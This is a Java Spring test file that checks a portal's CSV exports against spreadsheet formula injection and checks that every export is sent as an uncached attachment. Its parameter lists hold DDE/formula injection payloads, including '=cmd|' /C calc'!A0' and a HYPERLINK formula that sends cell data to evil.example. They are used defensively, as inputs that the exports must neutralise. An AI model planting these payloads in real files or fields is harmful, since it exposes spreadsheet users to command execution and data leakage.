package tandem.portal.attack;

import static java.util.Map.entry;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
import static org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers.springSecurity;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.transaction.annotation.Transactional;
import org.springframework.web.context.WebApplicationContext;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tandem.portal.OwnerDb;
import tandem.portal.PortalTest;
import tandem.portal.identity.SignIn;

/// Every file the portal hands out, with every text anybody could have written turned into a
/// formula or a second line. A file that is new has to be named here.
@PortalTest
@Transactional
class ExportAttackTest {
  /// Who gets it; CSV files are read cell by cell, others are looked at as a whole.
  private static final String PEOPLE_FILE = "01900000-0000-7000-8000-0000000f1001";
  private static final String ALLIANCE = "01900000-0000-7000-8000-00000a110001";
  private static final String WAVE = "01900000-0000-7000-8000-0000000a0001";
  private static final String MESSAGE = "01900000-0000-7000-8000-0000000e0001";
  private static final Map<String, String> FILES =
      Map.ofEntries(
          entry("/audit.csv", "tobias.roth@kessler.example"),
          entry("/people/completion.csv", "petra.lang@kessler.example"),
          entry("/people/import/template.csv", "petra.lang@kessler.example"),
          entry("/people/import/{import}/refused.csv", "petra.lang@kessler.example"),
          entry("/messages/{alliance}/{message}/sheet.pdf", "anna.brandt@kessler.example"),
          entry("/waves/{wave}/council.pdf", "petra.lang@kessler.example"),
          entry(
              "/instruments/{alliance}/{edition}/questionnaire.lss", "miriam.vogt@kessler.example"),
          entry("/results/{wave}/figures.csv", "miriam.vogt@kessler.example"),
          entry("/results/{wave}/figures.xlsx", "miriam.vogt@kessler.example"),
          entry("/certificates/{certificate}/certificate.pdf", "lena.hoffmann@nordwind.example"),
          entry("/certificates/{certificate}/badge.jwt", "lena.hoffmann@nordwind.example"),
          entry("/account/data.json", "anna.brandt@kessler.example"));

  /// Called like a file, but shown by the player within a lesson; nobody takes them away.
  private static final String CAPTIONS = "/media/{file}/{language}.vtt";

  private static final Pattern A_FILE = Pattern.compile(".*\\.(?!html)[a-z]{2,5}");
  private static final Pattern FORMULA =
      Pattern.compile("^[\\s]*[=+\\-@].*|^[\\t\\r\\n].*", Pattern.DOTALL);

  @Autowired WebApplicationContext web;
  @Autowired RequestMappingHandlerMapping endpoints;
  @Autowired OwnerDb db;
  private MockMvc portal;

  @BeforeEach
  void connect() {
    portal = MockMvcBuilders.webAppContextSetup(web).apply(springSecurity()).build();
  }

  @Test
  void every_file_there_is_stands_here() {
    var found = new TreeSet<String>();
    endpoints
        .getHandlerMethods()
        .forEach(
            (mapping, handler) ->
                mapping.getPatternValues().stream()
                    .filter(
                        pattern ->
                            A_FILE.matcher(pattern).matches()
                                || mapping.getProducesCondition().getProducibleMediaTypes().stream()
                                    .anyMatch(
                                        type ->
                                            !type.isCompatibleWith(
                                                org.springframework.http.MediaType
                                                    .APPLICATION_JSON)))
                    .forEach(found::add));
    assertThat(found).contains(CAPTIONS);
    found.remove(CAPTIONS);
    assertThat(found).isEqualTo(new TreeSet<>(FILES.keySet()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "x\n=1+1",
        "\";=1+1;\"",
        "%0A=1+1"
      })
  void no_text_becomes_a_formula_or_a_second_row(String text) throws Exception {
    int rows = csv(file("/people/completion.csv")).size();
    db.execute(
        "update identity.person set given_name = ?, family_name = ?, external_id = ? ||"
            + " right(id::text, 6) where company_id = '01900000-0000-7000-8000-0000000c0001'",
        text,
        text,
        text);
    db.execute(
        "update alliance.membership set team = ?, region = ? where role = 'SELLER'", text, text);
    db.execute(
        "update learning.module_version set title = jsonb_build_object('de', ?::text, 'en',"
            + " ?::text)",
        text,
        text);
    var written = csv(file("/people/completion.csv"));
    assertThat(written).hasSize(rows);
    assertHarmless(written);
  }

  /// Regions and comments are typed by people of two companies, titles by whoever writes an
  /// instrument.
  @ParameterizedTest
  @ValueSource(
      strings = {"=1+1", "+1+1", "@SUM(1+1)", "\t=1+1", " =1+1", "\uff1d1+1", "\";=1+1;\""})
  void no_text_in_the_results_becomes_a_formula_or_a_second_row(String text) throws Exception {
    int rows = csv(file("/results/{wave}/figures.csv")).size();
    db.execute("update alliance.alliance set name = ?", text);
    db.execute(
        "update survey.published_group set region = ? || region where region is not null", text);
    var written = csv(file("/results/{wave}/figures.csv"));
    assertThat(written).hasSize(rows);
    assertHarmless(written);
    assertThat(written.get(1).get(0)).isEqualTo(tandem.portal.platform.SpreadsheetCell.safe(text));
  }

  private static void assertHarmless(java.util.List<org.apache.commons.csv.CSVRecord> written) {
    for (var row : written) {
      for (String cell : row) {
        // a number below nothing is one
        if (!cell.matches("-?[0-9.E-]+")) {
          assertThat(cell)
              .doesNotMatch(FORMULA)
              .doesNotStartWith("\uff1d")
              .doesNotStartWith("\uff0b");
        }
      }
    }
  }

  @Test
  void every_file_is_handed_out_as_a_file_and_kept_by_nobody() throws Exception {
    for (String path : FILES.keySet()) {
      MockHttpServletResponse answer = file(path);
      assertThat(answer.getHeader("Content-Disposition")).as(path).startsWith("attachment");
      assertThat(answer.getHeader("Cache-Control")).as(path).contains("no-store");
    }
  }

  private static java.util.List<org.apache.commons.csv.CSVRecord> csv(MockHttpServletResponse file)
      throws Exception {
    String text = file.getContentAsString(StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
    String first = text.lines().findFirst().orElse("");
    try (var parser =
        CSVParser.parse(
            text,
            CSVFormat.RFC4180.builder().setDelimiter(first.contains(";") ? ';' : ',').get())) {
      return parser.getRecords();
    }
  }

  private MockHttpServletResponse file(String path) throws Exception {
    var person = SignIn.as(db, FILES.getOrDefault(path, ""));
    return portal
        .perform(
            get(path.replace("{import}", PEOPLE_FILE)
                    .replace("{alliance}", ALLIANCE)
                    .replace("{edition}", "01900000-0000-7000-8000-0000000b0001")
                    .replace("{message}", MESSAGE)
                    .replace("{certificate}", certificateOf(person))
                    .replace("{wave}", WAVE))
                .with(authentication(SignIn.authentication(person))))
        .andReturn()
        .getResponse();
  }

  private String certificateOf(tandem.portal.identity.PersonId person) {
    var id =
        db.fetchValue(
            "select id from credential.certificate where person_id = ? limit 1", person.value());
    return id == null ? "none" : id.toString();
  }
}
